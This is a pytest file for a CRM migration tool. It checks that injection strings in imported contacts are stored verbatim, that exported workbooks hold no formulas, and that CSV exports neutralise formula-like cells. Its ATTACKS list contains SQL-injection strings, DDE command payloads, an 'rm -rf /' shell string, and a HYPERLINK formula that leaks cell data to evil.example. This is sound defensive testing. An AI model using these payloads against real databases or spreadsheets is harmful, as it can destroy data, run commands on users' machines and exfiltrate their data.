"""SQL and spreadsheet-formula attack strings in headers and values: stored verbatim, never executed.

The store keeps every table and every value; workbooks never hold a formula; CSV exports start risky
cells with an apostrophe; and LibreOffice, a real spreadsheet app, shows the attack text as text.
"""
from __future__ import annotations

import csv
import json
import os
import shutil
import sqlite3
import subprocess
from pathlib import Path

import pandas as pd
import pytest

import crmkit
from crmkit.store import TABLE_COLUMNS, Store, read_store
from crmkit.workbook import FORMULA_STARTS, write_csv, write_workbook

read_mod = pytest.importorskip("crmkit.read")

ATTACKS = [
    '"; DROP TABLE contacts; --',
    "Robert'); DELETE FROM source_rows;--",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\t=1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "`rm -rf /` $(reboot)",
    "[contacts]",
    "' OR '1'='1",
    'He said "hi"; `x`',
    "0x00; PRAGMA writable_schema=1;",
    "long " + "N" * 400,
    "\r=2+2",
]
# header names: the attacks plus names that collide with the store's own columns
ATTACK_HEADERS = ATTACKS[:-1] + ["contact_id", "raw", "source_row", "source_file", "record_id", "batch_id",
                                 "Name (2)"]


def _rows() -> tuple[list[str], list[list[str]]]:
    headers = ["Name", "Email", "Phone", "Company", *ATTACK_HEADERS]
    rows = []
    for i, attack in enumerate(ATTACKS):
        row = [attack, f"user{i}@example.com", f"+1 415 555 {i:04d}", ATTACKS[(i + 1) % len(ATTACKS)]]
        row += [ATTACKS[(i + k) % len(ATTACKS)] for k in range(len(ATTACK_HEADERS))]
        rows.append(row)
    return headers, rows


@pytest.fixture(scope="module")
def attack_files(tmp_path_factory) -> list[Path]:
    from openpyxl import Workbook

    d = tmp_path_factory.mktemp("attack_in")
    headers, rows = _rows()
    with open(d / "attack.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([headers, *rows])
    wb = Workbook()
    ws = wb.active
    ws.title = "Sheet'; DROP TABLE x;--"
    for r in [headers, *rows]:
        ws.append(r)
        for cell in ws[ws.max_row]:
            cell.data_type = "s"  # text cells that *look* like formulas
    wb.save(d / "attack.xlsx")
    return [d / "attack.csv", d / "attack.xlsx"]


@pytest.fixture(scope="module")
def attack_store(attack_files, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("attack_store") / "crm.sqlite"
    result = crmkit.migrate(attack_files, out)
    assert not result.errors, result.errors
    return out


def test_store_is_intact(attack_store):
    conn = sqlite3.connect(attack_store)
    try:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        names = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
        assert names == set(TABLE_COLUMNS), names ^ set(TABLE_COLUMNS)
        for name in TABLE_COLUMNS:  # no table lost or gained a column
            cols = [r[1] for r in conn.execute(f'PRAGMA table_info("{name}")')]
            assert cols == TABLE_COLUMNS[name]
    finally:
        conn.close()
    tables = read_store(attack_store)
    assert len(tables["source_rows"]) == 2 * len(ATTACKS)
    assert len(tables["contacts"]) >= 1


def test_values_and_headers_are_stored_verbatim(attack_files, attack_store):
    tables = read_store(attack_store)
    src = tables["source_rows"]
    for path in attack_files:
        for sheet in read_mod.read(path):
            rows = src[(src["source_file"] == path.name) & (src["source_sheet"] == sheet.sheet)]
            assert len(rows) == len(sheet.frame) == len(ATTACKS)
            by_row = {int(r): json.loads(raw) for r, raw in zip(rows["source_row"], rows["raw"])}
            for row, values in sheet.frame.iterrows():
                stored = by_row[int(row)]
                for col, v in values.items():
                    if v is not None:
                        assert stored.get(col) == v, (path.name, row, col)
    # what was written is what read returns: every attack string, as a value and as a header
    raw_values = {v for raw in src["raw"] for v in json.loads(raw).values()}
    raw_headers = {k for raw in src["raw"] for k in json.loads(raw)}
    # read trims surrounding whitespace by design ("\t=1" -> "=1"); nothing else may change
    lost_values = [a for a in ATTACKS if a.strip() not in raw_values]
    lost_headers = [h for h in ATTACK_HEADERS if h.strip() not in raw_headers]
    assert not lost_values, f"values changed on the way in: {lost_values!r}"
    assert not lost_headers, f"headers changed on the way in: {lost_headers!r}"
    extra = tables["extra_fields"]
    assert set(ATTACKS[:-1]) & set(extra["field"]), "unmapped attack headers are not kept in extra_fields"


def _assert_no_formulas(path: Path) -> int:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    n = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                n += cell.value is not None
    return n


def test_workbooks_hold_no_formulas(attack_files, attack_store, tmp_path):
    crmkit.migrate(attack_files, tmp_path / "x.xlsx")
    tables = read_store(attack_store)
    write_workbook(tables, tmp_path / "from_store.xlsx")
    for path in (tmp_path / "x.xlsx", tmp_path / "from_store.xlsx"):
        assert _assert_no_formulas(path) > 0
    # and the attack texts are there, as text
    from openpyxl import load_workbook

    ws = load_workbook(tmp_path / "from_store.xlsx")["Extra fields"]
    cells = {c.value for row in ws.iter_rows() for c in row if c.data_type == "s"}
    assert {"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1", "-2+3"} <= cells


def test_csv_exports_neutralise_risky_cells(attack_store, tmp_path):
    tables = read_store(attack_store)
    for name in ("extra_fields", "source_rows", "contacts"):
        out = write_csv(tables[name], tmp_path / f"{name}.csv")
        with open(out, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(FORMULA_STARTS):
                        try:
                            float(cell.replace(",", ""))
                        except ValueError:
                            pytest.fail(f"{name}.csv holds a cell a spreadsheet would run: {cell!r}")
    text = (tmp_path / "extra_fields.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text and "'+1-1" in text and "'-2+3" in text and "'@SUM(1+1)" in text


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.slow
@pytest.mark.skipif(_soffice() is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_shows_attack_text_as_text(attack_store, tmp_path):
    tables = read_store(attack_store)
    book = write_workbook(tables, tmp_path / "extra.xlsx", sheets={"Extra fields": "extra_fields"})
    profile = tmp_path / "lo_profile"
    cmd = [_soffice(), f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
           "--convert-to", 'csv:Text - txt - csv (StarCalc):44,34,76,1', "--outdir", str(tmp_path / "out"), str(book)]
    r = subprocess.run(cmd, capture_output=True, timeout=240, env={**os.environ, "HOME": str(tmp_path)})
    out = tmp_path / "out" / "extra.csv"
    assert out.exists(), (r.stdout + r.stderr).decode(errors="replace")
    with open(out, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    shown = {c for row in body for c in row}
    assert header[:4] == TABLE_COLUMNS["extra_fields"][:4]
    assert len(body) == len(tables["extra_fields"])
    for attack in ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1", "-2+3",
                   '"; DROP TABLE contacts; --', "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"):
        assert attack in shown, f"LibreOffice does not show {attack!r} as text"
    # a formula would have been computed: 0, 1, 2, an error
    assert not {"0", "1", "2", "#NAME?", "Err:508", "#VALUE!"} & {row[3] for row in body}
    # and a PDF rendering works too (a real app opened and laid out the sheet)
    r = subprocess.run([_soffice(), f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                        "--convert-to", "pdf", "--outdir", str(tmp_path / "out"), str(book)],
                       capture_output=True, timeout=240, env={**os.environ, "HOME": str(tmp_path)})
    assert (tmp_path / "out" / "extra.pdf").read_bytes().startswith(b"%PDF")
